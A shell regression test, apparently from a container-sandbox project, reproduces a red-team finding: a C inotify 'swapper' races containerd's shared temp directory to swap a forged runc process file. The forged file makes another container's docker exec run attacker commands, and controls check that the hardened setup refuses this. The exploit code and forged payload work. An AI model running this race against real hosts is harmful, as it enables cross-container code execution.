#!/bin/sh
# found-70: another container's `docker exec` runs the attacker's process
# (red team 5 F-06). containerd's runc shim writes each exec's process
# file with go-runc's os.CreateTemp($XDG_RUNTIME_DIR), i.e. in $TMPDIR or
# /tmp; a container that binds that directory is root there, and renames
# its own root-owned process file over containerd's before the shim reads
# it. The shim judged the attacker's file (within policy), sealed it, and
# runc ran it inside the victim. Real containerd and dockerd (our own
# roots and sockets), confine as the default runtime; containerd's TMPDIR
# is a private sticky directory standing for /tmp (this shared machine's
# /tmp holds other users' listening sockets, which the mounts rule would
# rightly refuse to bind). Controls: a privileged exec is refused; an
# ordinary exec works on a containerd whose XDG_RUNTIME_DIR is root-only,
# as install.sh configures it.
# Exit 0: the attacker's process ran in the victim; 1: refused, it never
# ran (the refusal on stdout).
[ -n "${BASH_VERSION:-}" ] || exec bash "$0" "$@"
. "$(dirname "$0")/lib.sh"
. "$SRC/tests/lib/engine.sh"
policy
export CONFINE_POLICY=$W/policy.json
IMG=confine-busybox:latest
# engine: our own containerd + dockerd in $W/eN, confine as the default
# runtime (ENGINE_CONTAINERD_TMPDIR: tests/lib/engine.sh).
n=0
engine () {
  n=$((n + 1))
  engine_start "$W/e$n" --add-runtime "confine=$BUILD/confine-runtime" --default-runtime confine \
    && engine_import_busybox >/dev/null 2>&1
}

# --- the attack: containerd's temp directory is shared (sticky) ----------
mkdir -p "$W/hosttmp" && chmod 1777 "$W/hosttmp"
ENGINE_CONTAINERD_TMPDIR=$W/hosttmp engine || { echo "engine did not start"; exit 2; }
cat > "$W/swapper.c" <<'C'
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <unistd.h>
/* Each time DIR gets a file named runc-process*, rename a fresh copy of
 * FORGED over it (a probe or healthcheck execs again and again: the race
 * need not be won the first time). */
int main (int argc, char **argv)
{
  char buf[4096] __attribute__ ((aligned (8))), to[4096], copy[4096], forged[8192];
  int fd = inotify_init1 (0), in = argc < 3 ? -1 : open (argv[2], O_RDONLY);
  ssize_t flen = in < 0 ? -1 : read (in, forged, sizeof (forged));
  if (flen <= 0 || fd < 0 || inotify_add_watch (fd, argv[1], IN_CREATE) < 0)
    return 2;
  snprintf (copy, sizeof (copy), "%s/.forged-copy", argv[1]);
  for (;;)
    {
      int c = open (copy, O_WRONLY | O_CREAT | O_TRUNC, 0600);
      if (c < 0 || write (c, forged, flen) != flen || close (c) < 0)
        return 2;
      ssize_t r = read (fd, buf, sizeof (buf));
      for (char *p = buf; r > 0 && p < buf + r;)
        {
          struct inotify_event *e = (struct inotify_event *) p;
          if (e->len && strncmp (e->name, "runc-process", 12) == 0)
            {
              snprintf (to, sizeof (to), "%s/%s", argv[1], e->name);
              if (rename (copy, to) == 0)
                break;
            }
          p += sizeof (*e) + e->len;
        }
    }
}
C
mkdir -p "$W/att/bin"
cp /bin/busybox "$W/att/bin/" && ln -s busybox "$W/att/bin/sh" && ln -s busybox "$W/att/bin/chmod"
gcc -static -O2 -o "$W/att/swapper" "$W/swapper.c" || { echo "cannot build the swapper"; exit 2; }
tar -C "$W/att" -cf "$W/att.tar" . && docker import "$W/att.tar" confine-attacker:1 >/dev/null \
  || { echo "cannot import the attacker's image"; exit 2; }

victim=$(docker run -d --network none "$IMG" sleep 300) || { echo "victim did not start"; exit 2; }
vpid=$(docker inspect -f '{{.State.Pid}}' "$victim")
if docker exec --privileged "$victim" true >"$W/ctl.err" 2>&1 </dev/null \
   || ! grep -q 'confine: refused' "$W/ctl.err"; then
  echo "control failed: a privileged exec was not refused: $(cat "$W/ctl.err")"; exit 2
fi
echo "control: a privileged exec is refused"
FORGED='{"user":{"uid":0,"gid":0},"args":["/bin/sh","-c","echo HIJACKED-BY-ANOTHER-CONTAINER > /proof"],"env":["PATH=/bin"],"cwd":"/","capabilities":{"bounding":["CAP_CHOWN"],"effective":["CAP_CHOWN"],"permitted":["CAP_CHOWN"]},"noNewPrivileges":true}'
# The attacker binds the temp directory, writes its process file there
# (root's: its root is uid 0; 0600 as go-runc's) and waits.
attacker=$(docker run -d --network none -v "$W/hosttmp:/hosttmp" confine-attacker:1 /bin/sh -c \
  "printf '%s' '$FORGED' > /hosttmp/.forged && chmod 600 /hosttmp/.forged && exec /swapper /hosttmp /hosttmp/.forged" \
  2>"$W/att.err") \
  || { echo "the attacker's container was refused: $(cat "$W/att.err")"; exit 2; }
sleep 1
[ "$(docker inspect -f '{{.State.Running}}' "$attacker")" = true ] \
  || { echo "the attacker's container is not waiting"; exit 2; }
# An operator, a healthcheck, a probe runs ordinary execs in the victim.
refused=0 ran=0
for i in 1 2 3 4 5 6 7 8 9 10; do
  if docker exec "$victim" echo operator-exec >"$W/exec.out" 2>&1 </dev/null; then ran=$((ran + 1))
  elif grep -q 'confine: refused' "$W/exec.out"; then refused=$((refused + 1)); cp "$W/exec.out" "$W/refused.out"; fi
  [ -e "/proc/$vpid/root/proof" ] && break
done
proof=$(cat "/proc/$vpid/root/proof" 2>/dev/null)
echo "execs: $i, refused: $refused, ran: $ran; the victim's /proof: ${proof:-<none>}"
if [ "$proof" = HIJACKED-BY-ANOTHER-CONTAINER ]; then
  echo "ATTACK WORKED: the attacker's process ran in another container (exec $i)"; exit 0
fi
[ "$refused" = "$i" ] || { echo "not every exec was refused, yet the attack did not show"; exit 2; }
head -n 1 "$W/refused.out"
engine_stop

# --- positive control: containerd as install.sh configures it ------------
engine || { echo "engine did not start"; exit 2; }
victim=$(docker run -d --network none "$IMG" sleep 300) || { echo "victim did not start"; exit 2; }
out=$(docker exec "$victim" echo operator-exec 2>&1 </dev/null)
[ "$out" = operator-exec ] || { echo "positive control failed: docker exec with a root-only XDG_RUNTIME_DIR: $out"; exit 2; }
echo "positive control: docker exec works with containerd's XDG_RUNTIME_DIR root-only"
exit 1
